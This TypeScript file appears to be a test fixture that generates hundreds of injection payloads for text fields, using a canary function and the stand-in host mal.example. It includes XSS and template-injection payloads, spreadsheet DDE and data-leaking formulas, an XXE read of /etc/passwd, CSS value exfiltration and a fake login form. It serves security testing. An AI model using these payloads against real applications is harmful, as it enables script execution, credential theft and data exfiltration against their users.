/**
 * Payloads for text fields that try to run, load or compute something in another user's program, by family. Payloads
 * that run code call `canario()`, which browser tests listen for; those that load use `mal.example`, which doesn't
 * exist. Control characters except tab and line break are refused on input and left out here.
 */
const RUN = 'canario()';
const HOST = '//mal.example';

const HANDLERS: [element: string, handler: string, rest?: string][] = [
  ['svg', 'onload'],
  ['img', 'onerror', 'src=x'],
  ['image', 'onerror', 'src=x'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['frameset', 'onload'],
  ['iframe', 'onload'],
  ['input', 'onfocus', 'autofocus'],
  ['select', 'onfocus', 'autofocus'],
  ['textarea', 'onfocus', 'autofocus'],
  ['button', 'onclick', 'autofocus'],
  ['details', 'ontoggle', 'open'],
  ['video', 'onloadstart', 'src=x'],
  ['audio', 'onerror', 'src=x'],
  ['video><source', 'onerror'],
  ['video><track', 'onerror', 'default src=x'],
  ['marquee', 'onstart'],
  ['object', 'onerror', 'data=x'],
  ['embed', 'onload', 'src=x'],
  ['style', 'onload'],
  ['link', 'onerror', 'rel=stylesheet href=x'],
  ['a', 'onfocus', 'tabindex=0 autofocus'],
  ['p', 'onpointerover', 'style=position:fixed;inset:0'],
  ['div', 'oncontentvisibilityautostatechange', 'style=content-visibility:auto'],
  ['form', 'onformdata'],
  ['dialog', 'onclose', 'open'],
  ['svg><animate', 'onbegin', 'attributeName=x dur=1s'],
  ['svg><set', 'onbegin', 'attributeName=x'],
  ['math', 'onclick'],
  ['keygen', 'onfocus', 'autofocus'],
];

const onElements = HANDLERS.flatMap(([element, handler, rest]) => {
  const other = rest ? ` ${rest}` : '';
  return [
    `<${element}${other} ${handler}=${RUN}>`,
    `<${alternating(element)}${other} ${alternating(handler)}="${RUN}">`,
    `<${element}/${other.trim()}/${handler}='${RUN}'//`,
  ];
});

/** Short enough for a house number. */
const short = [
  ...['<b onclick=canario()', '<i/onclick=canario()', '"onclick="canario()', "'onclick='canario()", '<svg><script>'],
  ...['<!--', '-->', '<![CDATA[', ']]>', '</p>', '<plaintext>', '<base href=//x.yz>', '</script>', '</title>', '"><u>'],
  ...[
    '=1+1',
    '+1+1',
    '-1+1',
    '@A1',
    '{{7*7}}',
    `\${7*7}`,
    '#{7*7}',
    '<%=7%>',
    '&lt;u&gt;',
    '%3Cu%3E',
    '\\x3cu>',
    '\u202eu<',
  ],
];

const scripts = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script\n>${RUN}</script\n>`,
  `<script\t type=module>${RUN}</script >`,
  `<script/x>${RUN}</script/x>`,
  `<script src=${HOST}/a.js></script>`,
  `<script src=data:,${RUN}></script>`,
  `<script type=importmap>{"imports":{"react":"${HOST}/a.js"}}</script>`,
  `<script nomodule>${RUN}</script>`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script>${RUN}`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href=data:,${RUN} /></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe srcdoc='&lt;img src=x onerror=parent.${RUN}&gt;'></iframe>`,
  `<object data="data:text/html,<script>opener.${RUN}</script>"></object>`,
  `<portal src=javascript:${RUN}></portal>`,
  `<fencedframe src=${HOST}></fencedframe>`,
];

const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `&#106;avascript&colon;${RUN}`,
  `javascript:/*x*/%0A${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5jYW5hcmlvKCk8L3NjcmlwdD4=`,
  `vbscript:${RUN}`,
];
const ADDRESSED: ((address: string) => string)[] = [
  (address) => `<a href="${address}">ver</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>ver</button></form>`,
  (address) => `<button form=x formaction="${address}">ver</button>`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>ver</text></a></svg>`,
  (address) => `<svg><use href="${address}#x"/></svg>`,
  (address) => `<math href="${address}">ver</math>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
];
const addresses = ADDRESSED.flatMap((element, index) =>
  [0, 3, 6].map((step) => element(SCHEMES[(index + step) % SCHEMES.length] ?? '')),
).concat(SCHEMES);

const ENDS = [
  ...['"', "'", '`', '">', "'>", '"/>', '-->', '--!>', ']]>', '</script>', '</style>', '</title>', '</textarea>'],
  ...[
    '</select>',
    '</option></select>',
    '</noscript>',
    '</template>',
    '</svg>',
    '</math>',
    '</xmp>',
    '</iframe>',
    '</a>',
  ],
];
const breakouts = ENDS.flatMap((end, index) => [
  `${end}<script>${RUN}</script>`,
  index % 2 === 0 ? `${end}<img src=x onerror=${RUN}>` : `${end}<svg/onload=${RUN}>`,
]);
const attributes = [
  `" onfocus=${RUN} autofocus x="`,
  `' onfocus=${RUN} autofocus x='`,
  `" onmouseover="${RUN}`,
  `"/onclick=${RUN}//`,
  `" style="animation-name:x" onanimationstart="${RUN}`,
  `" accesskey="x" onclick="${RUN}`,
  `x" srcdoc="<script>${RUN}</script>`,
  `x\n" formaction="javascript:${RUN}`,
  `&quot; onclick=${RUN} x=&quot;`,
  `&#34; onclick=${RUN} x=&#34;" onclick="${RUN}`,
];

/** Inside scripts: strings, comments, templates and JSON-LD. */
const programs = [
  `';${RUN};//`,
  `";${RUN};//`,
  `\`;${RUN};//`,
  `\\';${RUN};//`,
  `\\";${RUN};//`,
  `*/${RUN}/*`,
  `\n${RUN}\n//`,
  `\u2028${RUN}\u2029`,
  `}}${RUN};{{`,
  `"},{"@type":"Thing","url":"javascript:${RUN}"},{"x":"`,
  `"}</script><script>${RUN}</script><script>{"`,
  `<!--<script>${RUN}`,
  `\\u003c/script\\u003e\\u003cscript\\u003e${RUN}`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${RUN}>"}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `{{$on.constructor('${RUN}')()}}`,
  `{{_c.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{% if ${RUN} %}x{% endif %}`,
  `[[${RUN}]]`,
  `*{T(java.lang.Runtime).getRuntime()}`,
  `<div ng-app ng-init="${RUN}">`,
  `<div v-on:click.once="${RUN}" v-html="'<img src=x onerror=${RUN}>'">`,
  `<div x-data x-init="${RUN}">`,
  `<div data-variable="{{NOME}}" hx-on:load="${RUN}">`,
];

/** Without scripts: markup that loads from elsewhere, or covers the page. */
const loads = [
  `<img src=${HOST}/a.gif>`,
  `<img srcset="${HOST}/a.gif 1x">`,
  `<picture><source srcset=${HOST}/a.gif><img></picture>`,
  `<video poster=${HOST}/a.gif></video>`,
  `<audio src=${HOST}/a.ogg autoplay></audio>`,
  `<input type=image src=${HOST}/a.gif>`,
  `<table background=${HOST}/a.gif><td>x`,
  `<link rel=stylesheet href=${HOST}/a.css>`,
  `<link rel=prefetch href=${HOST}/a>`,
  `<link rel=dns-prefetch href=${HOST}>`,
  `<base href=${HOST}/>`,
  `<meta http-equiv=refresh content="0;url=${HOST}/">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  `<style>@import "${HOST}/a.css";</style>`,
  `<style>*{background:url(${HOST}/a.gif)}</style>`,
  `<style>input[value^=a]{background:url(${HOST}/a)}</style>`,
  `<style>@font-face{font-family:x;src:url(${HOST}/a.woff)}*{font-family:x}</style>`,
  `<p style="background:url(${HOST}/a.gif)">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999;background:#fff">Entre de novo</p>`,
  `<svg><image href=${HOST}/a.svg /></svg>`,
  `<svg><use href=${HOST}/a.svg#x /></svg>`,
  `<svg><style>@import url(${HOST}/a.css)</style></svg>`,
  `<svg><filter><feImage href=${HOST}/a.gif /></filter></svg>`,
  `<iframe src=${HOST}></iframe>`,
  `<form action=${HOST}><input name=senha type=password><button>Entrar</button></form>`,
  `<a ping=${HOST} href=/>x</a>`,
  `<a href=${HOST} target=_blank>Boleto atualizado</a>`,
  `url(${HOST}/a.gif)`,
  `expression(${RUN})`,
];

/** Markup that changes when it is parsed a second time. */
const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></foreignObject></svg>`,
  `<svg><desc><noscript><img src=x onerror=${RUN}></noscript></desc></svg>`,
  `<select><template><img src=x onerror=${RUN}></template></select>`,
  `<table><tr><a><td><img src=x onerror=${RUN}>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>">`,
  `<title><img title="</title><img src=x onerror=${RUN}>">`,
  `<b><i><p><b><i><p><a href='x<img src=x onerror=${RUN}>'>`,
  `<img src="x\` \`<script>${RUN}</script>"\` \`>`,
  `<a href="x" title='"><img src=x onerror=${RUN}>'>x</a>`,
  `<?xml-stylesheet href="javascript:${RUN}"?><p>`,
  `<!doctype x [<!entity x SYSTEM "file:///etc/passwd">]><p>&x;</p>`,
];

/** Markup in look-alike or encoded characters. */
const letters = [
  `＜script＞${RUN}＜/script＞`,
  `‹img src=x onerror=${RUN}›`,
  `<scr\u200bipt>${RUN}</scr\u200bipt>`,
  `<ſcript>${RUN}</ſcript>`,
  `<ımg src=x onerror=${RUN}>`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `%253Cscript%253E${RUN}%253C/script%253E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `&#x3c;script&#x3e;${RUN}&#x3c;/script&#x3e;`,
  `&#60script&#62${RUN}&#60/script&#62`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\u202e>tpircs/<)(oiranac>tpircs<`,
  `\u2066<img src=x onerror=${RUN}>\u2069`,
  `<img src=x onerror\u3000=${RUN}>`,
  `<img\u00a0src=x\u00a0onerror=${RUN}>`,
  `<i\u0301mg src=x onerror=${RUN}>`,
  `<img src=x oné\u0301rror=${RUN}> 😀`,
  `\ufeff<script>${RUN}</script>`,
];

/** Spreadsheet formulas. */
const formulas = [
  `=HYPERLINK("http:${HOST}/?x="&A1,"ver")`,
  `=WEBSERVICE("http:${HOST}/"&A1)`,
  `=IMPORTXML("http:${HOST}","//a")`,
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\n=1+1',
  '"=1+1"',
  '";=1+1;"',
  "',=1+1,'",
  '＝1+1',
  '\u200b=1+1',
  '=DDE("cmd";"/C calc";"x")',
];

/** Names that collide with a page's own variables. */
const clobbers = [
  '<a id=canario><a id=canario name=x href=javascript:1>',
  '<form id=document><input name=cookie></form>',
  '<img name=getElementById>',
  '<form id=root><input id=attributes></form>',
  '<a id=__proto__ name=innerHTML href=x>',
];

const polyglots = [
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${RUN}//'>`,
  `'"><img src=x onerror=${RUN}>{{7*7}}\${7*7}<!--`,
  `"'--></style></script><svg onload=${RUN}>//\`+${RUN}+\``,
  `=1+1"><script>${RUN}</script>';${RUN};//`,
  `{{7*7}}</script>'"><iframe srcdoc='<script>parent.${RUN}</script>'>`,
];

function alternating(word: string) {
  return [...word].map((letter, index) => (index % 2 === 0 ? letter.toUpperCase() : letter)).join('');
}

/** Payloads of one kind each. */
const FAMILIES = [
  ...[onElements, short, scripts, addresses, breakouts, attributes, programs, loads, mutations, letters, formulas],
  ...[clobbers, polyglots],
];

/** The first of each family. */
export const ONE_OF_EACH: readonly string[] = FAMILIES.flatMap(([first]) => first ?? []);

/** More than three hundred distinct ones, with the families interleaved, so that any few cover several. */
export const PAYLOADS: readonly string[] = mixed(FAMILIES);

function mixed(families: string[][]) {
  const longest = Math.max(...families.map((family) => family.length));
  const turns = Array.from({ length: longest }, (_, turn) => families.flatMap((family) => family[turn] ?? []));
  return [...new Set(turns.flat())];
}

/** Takes payloads in turn, each no longer than its field; longer ones wait for a field with room. */
export function payloads(all: readonly string[] = PAYLOADS) {
  const waiting = [...all];
  const used = new Set<string>();
  const hasBreak = (payload: string) => payload.includes('\n');
  function take(fits: (payload: string) => boolean): string {
    if (!waiting.some(fits)) waiting.push(...all.filter(fits));
    const place = waiting.findIndex(fits);
    if (place < 0) return '<';
    const [payload = ''] = waiting.splice(place, 1);
    used.add(payload);
    return payload;
  }
  return {
    used,
    /** For a field of one line, which takes no breaks. */
    next: (max = 200) => take((payload) => payload.length <= max && !hasBreak(payload)),
    /** For a field of either kind. */
    any: (max = 200) => take((payload) => payload.length <= max),
    /** For a text of several lines: those with breaks first. */
    prose: (max = 200) => take((payload) => payload.length <= max && hasBreak(payload) === waiting.some(hasBreak)),
  };
}
